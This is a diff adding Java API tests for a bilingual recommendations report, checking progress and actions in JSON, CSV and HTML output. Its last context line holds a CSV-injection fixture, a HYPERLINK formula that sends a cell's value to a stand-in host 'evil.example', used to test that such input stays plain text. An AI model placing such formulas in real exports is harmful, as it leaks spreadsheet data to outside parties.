@@ -120,6 +120,78 @@ class ReportTest {
     }
 
     @Test
+    void progressIsShownInJsonCsvAndHtmlAsOfTheDay() throws Exception {
+        UUID dfr = ReportData.organization();
+        Response set = ReportData.workPlan(dfr);
+        String three = Fixtures.recommendation(set, 3);
+        post(TestTokens.admin(), "/recommendations/" + three + "/status",
+                Map.of("status", "in_progress", "progress", 30, "date", "2023-03")).then().statusCode(201);
+        ReportData.backdate(set.path("id"), 3);
+        post(TestTokens.admin(), "/recommendations/" + three + "/status",
+                Map.of("status", "in_progress", "progress", 65, "date", "2023-09")).then().statusCode(201);
+        given().auth().oauth2(TestTokens.reader(dfr)).get("/reports/" + dfr + "/2023?asOf=" + TODAY.minusDays(1))
+                .then().statusCode(200).body("recommendations[2].progress", equalTo(30))
+                .body("recommendations[2].timeline.progress", contains(0, 30));
+        given().auth().oauth2(TestTokens.reader(dfr)).get("/reports/" + dfr + "/2023")
+                .then().statusCode(200).body("recommendations[2].progress", equalTo(65))
+                .body("recommendations[2].timeline.progress", contains(0, 30, 65))
+                .body("recommendations[0].progress", equalTo(0));
+        String csv = given().auth().oauth2(TestTokens.reader(dfr)).accept("text/csv").get("/reports/" + dfr + "/2023")
+                .then().statusCode(200).extract().asString();
+        List<CSVRecord> rows = CSVFormat.RFC4180.builder().setHeader().setSkipHeaderRecord(true).get()
+                .parse(new StringReader(csv)).getRecords();
+        assertEquals("65", rows.get(2).get("progress"));
+        assertEquals("0", rows.get(0).get("progress"));
+        given().auth().oauth2(TestTokens.reader(dfr)).accept("text/html").get("/reports/" + dfr + "/2023")
+                .then().statusCode(200)
+                .body(containsString("aria-valuenow=\"65\"><span class=\"bar\" style=\"width:65%\"></span>"))
+                .body(containsString("<bdi class=\"percent\">65%</bdi>"));
+    }
+
+    @Test
+    void actionsAreShownAsTheyStoodInJsonCsvAndHtml() throws Exception {
+        UUID dfr = ReportData.organization();
+        Response set = ReportData.workPlan(dfr);
+        String four = Fixtures.recommendation(set, 4);
+        Response action = post(TestTokens.admin(), "/recommendations/" + four + "/actions",
+                Map.of("titleAr", "لقاءات مع البرلمان الأوروبي", "titleEn", "Meetings with the European Parliament",
+                        "leadOfficeId", dfr.toString(), "dueDate", "2023-09", "status", "in_progress",
+                        "progress", 40, "weight", 2)).then().statusCode(201).extract().response();
+        post(TestTokens.admin(), "/recommendations/" + four + "/actions", Map.of("titleAr", "زيارة إلى القاهرة"))
+                .then().statusCode(201);
+        ReportData.backdate(set.path("id"), 3);
+        given().auth().oauth2(TestTokens.admin()).contentType("application/json")
+                .header("If-Match", action.header("ETag")).body(Map.of("status", "done"))
+                .patch("/recommendations/" + four + "/actions/" + action.path("id")).then().statusCode(200);
+        given().auth().oauth2(TestTokens.reader(dfr)).get("/reports/" + dfr + "/2023?asOf=" + TODAY.minusDays(1))
+                .then().statusCode(200)
+                .body("recommendations[3].actions.titleAr", contains("لقاءات مع البرلمان الأوروبي",
+                        "زيارة إلى القاهرة"))
+                .body("recommendations[3].actions[0].status", equalTo("in_progress"))
+                .body("recommendations[3].actions[0].leadOffice.nameAr", equalTo("دائرة العلاقات الخارجية"))
+                .body("recommendations[3].progress", equalTo(26)); // (40×2 + 0) / 3
+        given().auth().oauth2(TestTokens.reader(dfr)).get("/reports/" + dfr + "/2023")
+                .then().statusCode(200)
+                .body("recommendations[3].actions.status", contains("done", "planned"))
+                .body("recommendations[3].actions[0].dueDate", equalTo("2023-09"))
+                .body("recommendations[3].actions[0].weight", equalTo(2))
+                .body("recommendations[3].progress", equalTo(66)) // (100×2 + 0) / 3
+                .body("recommendations[0].actions", hasSize(0));
+        String csv = given().auth().oauth2(TestTokens.reader(dfr)).accept("text/csv").get("/reports/" + dfr + "/2023")
+                .then().statusCode(200).extract().asString();
+        List<CSVRecord> rows = CSVFormat.RFC4180.builder().setHeader().setSkipHeaderRecord(true).get()
+                .parse(new StringReader(csv)).getRecords();
+        assertEquals("لقاءات مع البرلمان الأوروبي: done 100% (weight 2, due 2023-09) | زيارة إلى القاهرة: planned 0% "
+                + "(weight 1)", rows.get(3).get("actions"));
+        assertEquals("66", rows.get(3).get("progress"));
+        given().auth().oauth2(TestTokens.reader(dfr)).accept("text/html").get("/reports/" + dfr + "/2023")
+                .then().statusCode(200)
+                .body(containsString("<li class=\"action\" data-status=\"done\">لقاءات مع البرلمان الأوروبي"))
+                .body(containsString("Meetings with the European Parliament"))
+                .body(containsString("الموعد <bdi>2023-09</bdi>"));
+    }
+
+    @Test
     void l1_aRecommendationThatStartsLikeAFormulaIsTextInTheCsv() throws Exception {
         UUID dfr = ReportData.organization();
         String formula = "=HYPERLINK(\"https://evil.example/?\"&B2,\"open\")";
